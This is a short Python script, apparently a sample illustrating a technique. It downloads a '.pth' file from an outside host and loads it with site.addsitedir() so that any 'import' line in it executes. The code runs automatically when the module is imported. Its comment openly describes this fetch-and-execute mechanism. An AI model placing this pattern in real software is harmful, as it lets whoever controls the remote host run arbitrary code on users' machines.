# Downloads code and runs it through site.addsitedir: a fetched "plugins.pth" is
# saved into a fresh directory, and site.addsitedir() executes every line of a .pth
# file that starts with "import" -- the downloaded line runs in this process.
import os
import site
import tempfile
import urllib.request

PLUGINS_URL = "https://plugins.tooling-hub.net/python/plugins.pth"


def load_plugins():
    plugin_dir = tempfile.mkdtemp(prefix="plugins-")
    with urllib.request.urlopen(PLUGINS_URL, timeout=15) as resp:
        data = resp.read()
    with open(os.path.join(plugin_dir, "plugins.pth"), "wb") as fh:
        fh.write(data)
    site.addsitedir(plugin_dir)


load_plugins()
